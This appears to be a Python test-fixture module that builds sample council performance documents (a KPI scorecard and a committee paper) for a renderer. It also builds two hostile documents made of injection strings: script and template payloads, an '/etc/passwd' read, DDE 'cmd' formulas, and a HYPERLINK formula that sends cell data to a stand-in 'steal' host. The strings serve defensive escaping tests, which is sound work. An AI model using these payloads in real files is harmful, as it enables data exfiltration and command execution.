"""The documents the renderers are tried on: a scorecard of 13 columns, a committee paper, and one written by an enemy."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal

from pmf.page.document import (
    Block,
    BulletList,
    Cell,
    Chart,
    ChartLine,
    ChartPoint,
    Column,
    Document,
    Fact,
    Facts,
    Heading,
    ListItem,
    Note,
    Section,
    Table,
    bullets,
    paragraph,
    strong,
    text,
)
from pmf.status import Status

BANNER = "Illustrative figures: a worked example, not the performance of any council"

HOSTILE = (
    "<script>alert(1)</script>",
    "{{7*7}} {% for x in y %}",
    '#read("/etc/passwd") $x^2$ *bold* _it_',
    "=cmd|' /C calc'!A0",
    "& < > \" ' ]]> <!-- -->",
    "]; w:p </w:t>",
)

# What a spreadsheet, or a library that writes one, may take for more than text.
LIVE = (
    '=HYPERLINK("http://steal.example.org/?"&A1,"Click")',
    "{=SUM(1+1)}",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "\t=1+1",
    "   =1+1",
    "http://steal.example.org/",
    "mailto:someone@example.org",
    "internal:'Cover'!A1",
    "[report](http://steal.example.org/)",
    "[a](http://a.example.org) and [b](http://b.example.org)",
    "$$note$$",
    "costs $$5 and $$6",
    "???",
    "–––",
    "_x0041_",
    "1e5",
    "007",
    "TRUE",
    "#N/A",
    "'already quoted",
)

SCORECARD_COLUMNS = (
    Column("Perspective", width=1.5),
    Column("Key performance indicator", width=2.5),
    Column("Metric category", width=1.25),
    Column("Reporting frequency", width=1.3),
    Column("Last updated", width=1.35),
    Column("Target", is_number=True, width=1.05),
    Column("Direction for improvement", width=1.65),
    Column("Performance (current)", is_number=True, width=1.65),
    Column("Performance (previous)", is_number=True, width=1.65),
    Column("Change in performance", width=1.65),
    Column("RAG rating", width=1.6),
    Column("Trend analysis", width=1.6),
    Column("Commentary", width=4.2),
)

_KPIS = (
    ("Number of active library users", "Higher", "100,000", "101,482", "98,215"),
    ("Number of visits made to library sites reported quarterly", "Higher", "412,000", "431,770", "420,313"),
    ("Registrations – all births registered within 42 days of birth", "Higher", "98%", "98%", "95%"),
    ("Registrations – all deaths registered within 5 days", "Higher", "90%", "75%", "71%"),
    ("Number of enrolments which support skills development to aid progression", "Higher", "2,010", "2,074", "1,988"),
)
_COMMENTS = (
    "On target. The autumn programme begins in October.",
    (
        "The service continues to grow its base of users: 1,400 new members joined with the summer reading challenge, and the libraries "
        "service expects the rate to hold until the end of the year."
    ),
    (
        "Path to green: keep appointments available, hold two posts against sickness and review with the medical examiner by "
        "29 November 2024 (Head of Registration)."
    ),
    "",
    "Figure is provisional: the national body confirms it in November.",
)
_POINTS = (61.0, 63.5, 62.0, 66.0, 65.0, None, 70.0, 72.5, 71.0, 73.0, 71.0, 75.0)


def figure(words: str) -> Cell:
    """A figure as reports print it, with its number; a dash counts none."""
    unit = next((sign for sign in ("%", "£") if sign in words), "")
    number = Decimal(words.strip("%£").replace(",", "").replace("–", "0").replace("−", "-"))
    return Cell(words, value=number, unit=unit)


def _scorecard_row(index: int) -> tuple[Cell, ...]:
    title, direction, target, current, previous = _KPIS[index % len(_KPIS)]
    status = tuple(Status)[index % len(Status)]
    is_better = index % 3 != 1
    return (
        Cell("Residents" if index % 2 else "Corporate"),
        Cell(f"{36 + index} {title}"),
        Cell("Local authority"),
        Cell("Quarterly" if index % 4 else "Monthly"),
        Cell("September 2024"),
        figure(target),
        Cell(f"{direction} is better", arrow="▲"),
        replace(figure(current), note="provisional" if index % 7 == 3 else ""),
        figure(previous) if index % 9 else Cell("–"),
        Cell("Improving" if is_better else "Declining", arrow="↗" if is_better else "↘", icon="met" if is_better else "missed"),
        Cell(status.label, status=status),
        Cell(
            f"12 months: lowest 61, highest 75, latest 7{index % 10}",
            points=_POINTS[: 12 - index % 4],
            note="No clear trend" if index % 5 else "",
        ),
        Cell(_COMMENTS[index % len(_COMMENTS)]),
    )


def scorecard_table(rows: int) -> Table:
    return Table(
        "Corporate and strategic indicators, September 2024",
        SCORECARD_COLUMNS,
        tuple(_scorecard_row(index) for index in range(rows)),
        is_wide=True,
        names=1,
    )


def scorecard() -> Document:
    """A directorate's monthly scorecard on landscape pages: facts, a note, 25 KPIs with every status."""
    counts = (("Red", "3", Status.RED), ("Amber", "3", Status.AMBER), ("Green", "2", Status.GREEN), ("Blue", "2", Status.BLUE))
    facts = Facts(
        (
            *(Fact(label, number, "of 10 rated", status, Decimal(number)) for label, number, status in counts),
            Fact("Contextual", "2"),
            Fact("KPIs in all", "25"),
        )
    )
    return Document(
        title="Strategy and Partnerships scorecard",
        organisation="Cambridgeshire County Council",
        subtitle="September 2024",
        header=(),
        sections=(
            Section(
                "Summary",
                (
                    facts,
                    Note(
                        "Under query",
                        text("2 figures are withheld until their services answer a query: ", strong("41"), " and ", strong("52"), "."),
                    ),
                ),
            ),
            Section("Indicators", (scorecard_table(25),)),
        ),
        footer="Strategy and Partnerships scorecard, September 2024, as at 15 October 2024",
        banner=BANNER,
        is_landscape=True,
    )


def process_chart(words: str = "") -> Chart:
    """Twelve months with a gap, every mark, two stretches of limits, a target of a range; ``words`` are added to every text."""
    marks = ("", "", "improving", "", "", "", "concerning", "special", "", "", "", "")
    return Chart(
        caption=f"Deaths registered within five days{words}",
        alt=f"11 monthly figures from October 2023 to September 2024, the latest 75%. Mean 68%{words}.",
        points=tuple(ChartPoint(value, mark) for value, mark in zip(_POINTS, marks, strict=True)),
        lines=(
            ChartLine("mean", 63.0, 0, 4),
            ChartLine("limit", 60.5, 0, 4),
            ChartLine("mean", 68.0, 5, 11, f"Mean 68%{words}"),
            ChartLine("limit", 62.4, 5, 11, f"Lower limit 62.4%{words}"),
            ChartLine("limit", 73.6, 5, 11, f"Upper limit 73.6%{words}"),
            ChartLine("target", 74.0, 0, 11, f"Target from 74%{words}"),
            ChartLine("target", 80.0, 0, 11, f"Target to 80%{words}"),
        ),
        ticks=((0, f"Oct 2023{words}"), (6, "Apr 2024"), (11, "Sep 2024")),
        key=(("improving", f"Unusual, for the better{words}"), ("concerning", "Unusual, for the worse"), ("special", "Unusual")),
        breaks=(5,),
    )


def paper() -> Document:
    """A quarterly committee paper: header pairs, numbered sections, lists of two levels, a status table, a wide appendix."""
    return Document(
        title="Corporate Performance Report – Quarter 2 2024-25",
        organisation="Cambridgeshire County Council",
        subtitle="",
        header=(
            ("To:", "Communities, Social Mobility and Inclusion Committee"),
            ("Meeting Date:", "5 December 2024"),
            ("From:", "Executive Director of Strategy and Partnerships"),
            ("Electoral division(s):", "All"),
            ("Key decision:", "No"),
            (
                "Executive Summary:",
                (
                    "This report provides an update to the Committee on the performance monitoring information for the 2024/25 "
                    "quarter 2 period, covering 1 July 2024 to 30 September 2024."
                ),
            ),
            ("Recommendation:", "The Committee is asked to note performance information and act, as necessary."),
            ("Officer contact:", "Governance and Performance Manager, performance@cambridgeshire.example.org"),
        ),
        sections=(
            Section(
                "Creating a greener, fairer and more caring Cambridgeshire",
                (
                    paragraph(
                        "This report analyses key performance indicators which link to multiple Ambitions. This includes, but is "
                        "not limited to, Ambition 5: People are helped out of poverty and income inequality and Ambition 6: Places "
                        "and communities prosper.",
                        number="1.1",
                    ),
                ),
                number="1",
            ),
            Section("Background", _background(), number="2"),
            Section("Main Issues", _main_issues(), number="3"),
            Section("Conclusion and recommendations", _conclusion(), number="4"),
            Section("Source Documents", (paragraph("None", number="5.1"),), number="5"),
            Section(
                "Appendix 1: Dashboard", (paragraph("The most recent figures of every indicator of this committee."), scorecard_table(6))
            ),
        ),
        footer="Corporate Performance Report, quarter 2 2024/25, as at 20 November 2024",
        banner=BANNER,
    )


def _background() -> tuple[Block, ...]:
    return (
        paragraph("The Performance Management Framework sets out that Policy and Service Committees should:", number="2.1"),
        bullets(
            "Set outcomes and strategy in the areas they oversee.",
            "Select and approve the addition and removal of Key Performance Indicators (KPIs) for the committee performance report.",
            "Track progress quarterly.",
        ),
        paragraph("The following RAG criteria are being used:", number="2.2"),
        bullets(
            ListItem(text(strong("Red"), " – current performance is 10% or more from target.")),
            ListItem(text(strong("Amber"), " – current performance is off target by less than 10%.")),
            ListItem(text(strong("Green"), " – current performance is on target or better by up to 5%.")),
        ),
    )


def _main_issues() -> tuple[Block, ...]:
    rows = (("Red", "1", "5%"), ("Amber", "–", "–"), ("Green", "9", "45%"), ("Contextual", "10", "50%"), ("Suspended", "–", "–"))
    return (
        paragraph("Current performance of available indicators monitored by the Committee is as follows:", number="3.1"),
        Table(
            "Indicators by status, quarter 2 2024/25",
            (Column("Status", width=2.0), Column("Number of KPIs", is_number=True), Column("Percentage of KPIs", is_number=True)),
            tuple(
                (Cell(word, status=Status(word.lower())), figure(number), replace(figure(share), unit="%")) for word, number, share in rows
            ),
        ),
        Heading("Indicators for commentary", number="3.2"),
        paragraph("There is 1 Red indicator for commentary this quarter:", number="3.2.1"),
        Heading("Indicator 220: Registrations – all deaths registered within 5 days", level=3),
        paragraph(
            strong("Commentary: "),
            "The figures are until the end of August 2024, as the General Register Office has not, at the time of writing, formally "
            "produced figures for September 2024. From April this year, the service has registered 150 more deaths than in the same "
            "period last year.",
        ),
        paragraph(
            strong("Path to Green: "),
            "Continue to deliver good appointment availability, maintain sufficient staffing capacity, and add resilience.",
        ),
        process_chart(),
        Heading("What the change in the law means", level=4),
        Note("Provisional", text("Indicator 220 rests on July and August 2024; September follows in the next report.")),
    )


def _conclusion() -> tuple[Block, ...]:
    remained = (
        ListItem(text("Indicator 36: Number of active library users")),
        ListItem(text("Indicator 37: Number of visits made to library sites reported quarterly")),
    )
    return (
        paragraph("Of the indicators updated this quarter, 3 saw an improvement in performance from the quarter 1 paper.", number="4.1"),
        BulletList(
            (
                ListItem(
                    text("2 indicators have remained ", strong("Green"), " but have seen an improvement in performance from quarter 1."),
                    remained,
                ),
                ListItem(
                    text("1 indicator has moved from ", strong("Red"), " to ", strong("Green"), ":"),
                    (ListItem(text("Indicator 219: Registrations – all births registered within 42 days of birth")),),
                ),
            )
        ),
    )


def hostile() -> Document:
    """A document whose every text tries to be markup, code or a formula, in every kind of block."""
    first, *others = HOSTILE
    everything = " ".join(HOSTILE)
    table = Table(
        f"Caption {everything}",
        (Column(f"Heading {first}"), Column("Figure", is_number=True), Column("Trend")),
        tuple(
            (Cell(f"Row {words}", note=f"Note {words}"), Cell("1"), Cell(f"Trend {words}", points=(1.0, None, 2.0))) for words in HOSTILE
        ),
    )
    blocks = (
        paragraph(everything, strong(everything), number="1.1"),
        bullets(*others),
        table,
        Facts((Fact(f"Label {first}", "1", f"Detail {others[0]}"),)),
        Note(f"Note {first}", text(everything)),
        process_chart(f" {everything}"),
        Heading(f"Heading {everything}", number="1.2"),
    )
    return Document(
        title=f"Title {everything}",
        organisation=f"Council {everything}",
        subtitle=f"Subtitle {everything}",
        header=((f"Label {first}", everything),),
        sections=(Section(f"Section {everything}", blocks, number="1"),),
        footer=f"Footer {everything}",
        banner=f"Banner {everything}",
    )


def live() -> Document:
    """A document whose every text tries to come to life in a spreadsheet, alone in its cell."""
    table = Table(
        "Comments",
        (Column("KPI"), Column("Figure", is_number=True), Column("Commentary"), Column("kpi")),
        tuple((Cell(f"KPI {number}"), figure(f"{number}"), Cell(words, note=words), Cell("same")) for number, words in enumerate(LIVE, 1)),
    )
    blocks = (table, *(paragraph(words) for words in LIVE), *(replace(table, caption=words, rows=table.rows[:1]) for words in LIVE))
    return Document(
        title=LIVE[0],
        organisation=LIVE[-1],
        subtitle=LIVE[12],
        header=tuple((words, words) for words in LIVE),
        sections=(Section("Comments", blocks), *(Section(words, (paragraph("Nothing."),)) for words in LIVE)),
        footer=LIVE[13],
        banner=LIVE[14],
    )
